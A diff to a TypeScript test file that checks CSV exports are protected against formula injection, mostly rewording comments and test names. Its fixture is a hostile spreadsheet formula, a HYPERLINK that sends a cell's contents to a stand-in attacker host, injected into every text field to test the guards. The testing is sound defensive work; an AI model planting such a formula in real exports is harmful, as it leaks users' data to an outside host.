@@ -1,4 +1,4 @@
-/** Every column of the files, for a platform whose every text is a formula. */
+/** Every column of the files, for a platform that sends formulas in every text. */
 
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import { createTestDatabase, type TestDatabase } from '#lib/db/test-database.ts'
@@ -16,7 +16,8 @@ import { parseCsvRecords, readAll } from './test-parse-csv.ts'
 
 const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Open")'
 /**
- * What stands in the columns that are not guarded. A column of words of our own has its words here.
+ * The expected contents of the columns that are not guarded; a column with our own words has them
+ * here.
  */
 type ColumnKind = (typeof LINE_COLUMNS)[number]['kind']
 const AMOUNT = /^-?\d+(\.\d+)?$/
@@ -44,18 +45,16 @@ beforeAll(async () => {
   organizationId = owner.organizationId
   const connectionId = await seedConnection(database.query, owner, FORMULA)
   await seedLines(organizationId, connectionId, [
-    // remarks, so that their column is filled, too
+    // notes, to fill their column too
     { ...makeLine(readHostileLine()), notes: ['credit_sign', 'unreadable_field'] },
   ])
 })
 afterAll(() => database.drop())
 
-/**
- * A line as the platform sends it, in which every text is the formula, for which the parser stands.
- */
+/** A line from the platform with the formula in every text; goes through the parser. */
 function readHostileLine() {
   const wire = replaceTexts(LINE)
-  // what has to be an amount, a day or a currency is none then: such a line is not taken at all
+  // an amount, a day or a currency that is a formula rejects the whole line
   expect(parseLine(JSON.stringify(wire)).ok).toBe(false)
   const { unit_price, non_taxable_unit_price, tax_percentage, tax_amount, total_amount, expense_date } = LINE
   const amounts = { unit_price, non_taxable_unit_price, tax_percentage, tax_amount, total_amount, expense_date }
@@ -99,7 +98,7 @@ function expectHarmless(columns: readonly { name: string; kind: ColumnKind }[], 
   }
 }
 
-test('A13: of a line in which every text is a formula, each column of the file is guarded or of our own words', async () => {
+test('A13: if every text of a line is a formula, each column of the file is guarded or has our own words', async () => {
   const rows = parseCsvRecords(
     await readAll(await CSV_FILES.lines.stream(organizationId, somebody(), DEFAULT_LINE_QUERY)),
   )
@@ -107,7 +106,7 @@ test('A13: of a line in which every text is a formula, each column of the file i
   expectHarmless(LINE_COLUMNS, rows[0] as Record<string, string>)
 })
 
-test('A13: so it is in the file of groups, by every key', async () => {
+test('A13: the same holds for the file of groups, by every key', async () => {
   const query = { ...DEFAULT_GROUP_QUERY, by: [...GROUP_KEYS] }
   const rows = parseCsvRecords(await readAll(await CSV_FILES.groups.stream(organizationId, somebody(), query)))
   expect(rows).toHaveLength(1)
